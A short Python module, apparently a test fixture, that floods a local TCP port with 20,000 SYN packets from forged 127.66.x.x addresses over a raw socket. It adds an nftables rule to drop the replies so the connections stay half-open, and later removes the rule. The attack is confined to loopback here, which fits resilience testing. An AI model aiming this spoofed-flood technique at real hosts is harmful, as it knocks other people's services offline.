"""A SYN flood: connections that are begun from addresses where nobody answers."""

import random
import socket
import subprocess

from frames import packet4

COUNT = 20_000
TCP = 6
# What comes back to them is dropped: else the kernel itself would say at once that it knows of no such connection.
FORGED = "127.66"
RULES = f"table ip half_open {{ chain input {{ type filter hook input priority 0; ip daddr {FORGED}.0.0/16 drop; }}; }}"


def nft(text):
    subprocess.run(("nft", text), check=True, stdin=subprocess.DEVNULL)


def besiege(port):
    nft(RULES)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(COUNT):
            source = f"{FORGED}.{number >> 8}.{number & 255}"
            frame = packet4(source, "127.0.0.1", TCP, int(port), own_port=random.randrange(1024, 65536))
            raw.sendto(frame[2:], ("127.0.0.1", 0))


def relieve(_port):
    nft("delete table ip half_open")
